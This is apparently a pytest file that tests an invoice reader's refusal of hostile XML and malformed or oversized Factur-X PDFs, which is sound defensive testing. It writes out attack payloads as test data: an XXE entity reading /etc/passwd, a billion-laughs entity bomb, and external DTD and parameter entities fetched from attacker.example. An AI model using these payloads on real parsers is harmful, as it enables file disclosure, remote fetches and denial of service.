"""Hostile XML is refused: DOCTYPEs (XXE, entity bombs), broken XML, unknown roots, bad PDFs."""

from __future__ import annotations

import zlib
from pathlib import Path

import pytest
from lxml import etree

from chalicelib.adapters.invoice_readers import read_invoice_file
from chalicelib.adapters.invoice_readers.xml_safety import DOCTYPE_REASON, make_parser, parse_xml
from chalicelib.domain.intake import UnreadableDocumentError


def samples_dir() -> Path:
    return Path(__file__).resolve().parents[3].parent / "shared" / "samples"


def minimum_cii(body_prefix: str = "", entity_ref: str = "F1") -> str:
    return (
        '<?xml version="1.0"?>\n'
        f"{body_prefix}"
        '<rsm:CrossIndustryInvoice xmlns:rsm="urn:un:unece:uncefact:data:standard:'
        'CrossIndustryInvoice:100" xmlns:ram="urn:un:unece:uncefact:data:standard:'
        'ReusableAggregateBusinessInformationEntity:100">'
        f"<rsm:ExchangedDocument><ram:ID>{entity_ref}</ram:ID></rsm:ExchangedDocument>"
        "</rsm:CrossIndustryInvoice>"
    )


XXE = minimum_cii(
    '<!DOCTYPE rsm:CrossIndustryInvoice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n', "&xxe;"
)
BILLION_LAUGHS = minimum_cii(
    "<!DOCTYPE lolz [\n"
    + '<!ENTITY lol "lol">\n'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n'
        for i in range(1, 10)
    )
    + "]>\n",
    "&lol9;",
)
EXTERNAL_DTD = minimum_cii('<!DOCTYPE foo SYSTEM "http://attacker.example/evil.dtd">\n')
PARAMETER_ENTITY = minimum_cii(
    '<!DOCTYPE foo [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>\n'
)
AFTER_COMMENT = minimum_cii('<!-- harmless? -->\n<!DOCTYPE foo [<!ENTITY a "b">]>\n', "&a;")


@pytest.mark.parametrize(
    "document",
    [XXE, BILLION_LAUGHS, EXTERNAL_DTD, PARAMETER_ENTITY, AFTER_COMMENT],
    ids=["xxe-file", "billion-laughs", "external-dtd", "parameter-entity", "after-comment"],
)
def test_any_doctype_is_refused_before_anything_is_read(document: str) -> None:
    with pytest.raises(UnreadableDocumentError) as raised:
        read_invoice_file(document.encode(), "evil.xml")

    assert raised.value.reason == DOCTYPE_REASON


def test_doctype_in_a_utf16_document_is_refused() -> None:
    with pytest.raises(UnreadableDocumentError) as raised:
        read_invoice_file(
            XXE.replace('version="1.0"', 'version="1.0" encoding="UTF-16"').encode("utf-16"),
            "x.xml",
        )

    assert raised.value.reason == DOCTYPE_REASON


def test_the_parser_itself_never_expands_entities() -> None:
    # Second line of defence, below the DOCTYPE refusal: the parser leaves &xxe; unresolved.
    root = etree.fromstring(XXE.encode(), make_parser())

    text = etree.tostring(root).decode()
    assert "root:" not in text
    assert "&xxe;" in text


def parse_or_error(data: bytes) -> etree._Element | etree.XMLSyntaxError:
    try:
        return etree.fromstring(data, make_parser())
    except etree.XMLSyntaxError as exc:
        return exc


def test_billion_laughs_does_not_expand_in_the_parser() -> None:
    # Depending on the libxml2 build the parser either refuses the amplification outright or
    # keeps the reference unexpanded; it never builds the billion "lol"s.
    outcome = parse_or_error(BILLION_LAUGHS.encode())

    if isinstance(outcome, etree.XMLSyntaxError):
        assert "amplification" in str(outcome)
    else:
        assert len(etree.tostring(outcome)) < 1000


def test_malformed_xml_is_unreadable_with_the_parser_message() -> None:
    with pytest.raises(UnreadableDocumentError) as raised:
        parse_xml(b"<Invoice><cbc:ID>1</Invoice>")

    assert raised.value.reason.startswith("The file is not well-formed XML:")


def test_xml_that_is_not_an_invoice_is_unreadable_naming_its_root() -> None:
    with pytest.raises(UnreadableDocumentError) as raised:
        read_invoice_file(b'<?xml version="1.0"?><Order xmlns="urn:x"><ID>1</ID></Order>', "o.xml")

    assert "{urn:x}Order" in raised.value.reason


def test_xml_declaring_utf8_but_holding_latin1_is_unreadable() -> None:
    data = minimum_cii(entity_ref="Société").encode("latin-1")

    with pytest.raises(UnreadableDocumentError):
        read_invoice_file(data, "x.xml")


def pdf_with_attachment(name: str | None, content: bytes = b"") -> bytes:
    """A minimal PDF, optionally embedding one Flate-compressed file, written by hand."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R"
        + (f" /Names << /EmbeddedFiles << /Names [({name}) 4 0 R] >> >>".encode() if name else b"")
        + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    ]
    if name:
        packed = zlib.compress(content)
        objects.append(
            f"<< /Type /Filespec /F ({name}) /UF ({name}) /EF << /F 5 0 R >> >>".encode()
        )
        header = f"<< /Type /EmbeddedFile /Filter /FlateDecode /Length {len(packed)} >>"
        objects.append(header.encode() + b"\nstream\n" + packed + b"\nendstream")
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{offset:010d} 00000 n \n".encode() for offset in offsets)
    out += (
        f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    )
    return bytes(out)


@pytest.mark.parametrize("document", [XXE, BILLION_LAUGHS], ids=["xxe", "billion-laughs"])
def test_pdf_embedding_a_doctype_document_is_refused_with_that_reason(document: str) -> None:
    pdf = pdf_with_attachment("factur-x.xml", document.encode())

    with pytest.raises(UnreadableDocumentError) as raised:
        read_invoice_file(pdf, "invoice.pdf")

    assert (
        raised.value.reason
        == f"The PDF embeds factur-x.xml, which cannot be read: {DOCTYPE_REASON}"
    )


def test_pdf_embedding_xml_that_is_no_invoice_says_so() -> None:
    pdf = pdf_with_attachment("factur-x.xml", b"<order><id>1</id></order>")

    with pytest.raises(UnreadableDocumentError) as raised:
        read_invoice_file(pdf, "invoice.pdf")

    assert raised.value.reason.startswith("The PDF embeds factur-x.xml, which is not a")


def test_pdf_embedding_a_real_factur_x_xml_reads_like_the_xml() -> None:
    xml = (samples_dir() / "einvoice/cii/akretion-factur-x-minimum.xml").read_bytes()

    result = read_invoice_file(pdf_with_attachment("factur-x.xml", xml), "invoice.pdf")

    assert result.format == "facturx-pdf"
    assert [i.number for i in result.invoices] == ["F20260023"]


def test_pdf_without_attachment_is_unreadable() -> None:
    with pytest.raises(UnreadableDocumentError) as raised:
        read_invoice_file(pdf_with_attachment(None), "scan.pdf")

    assert "no embedded Factur-X" in raised.value.reason


def test_corrupt_pdf_is_unreadable_not_a_crash() -> None:
    with pytest.raises(UnreadableDocumentError):
        read_invoice_file(b"%PDF-1.7\n1 0 obj << /Type /Catalog >> garbage", "broken.pdf")


def test_xml_embedded_in_a_pdf_obeys_the_size_limit() -> None:
    xml = (samples_dir() / "einvoice/cii/akretion-factur-x-minimum.xml").read_bytes()
    padded = xml.replace(
        b"</rsm:CrossIndustryInvoice>", b" " * 200_000 + b"</rsm:CrossIndustryInvoice>"
    )
    pdf = pdf_with_attachment("factur-x.xml", padded)
    assert len(pdf) < 100_000 < len(padded)

    with pytest.raises(UnreadableDocumentError) as raised:
        read_invoice_file(pdf, "invoice.pdf", max_bytes=100_000)

    assert raised.value.reason.startswith("The XML embedded in the PDF (factur-x.xml) is 20")
    assert "the limit is 100000" in raised.value.reason
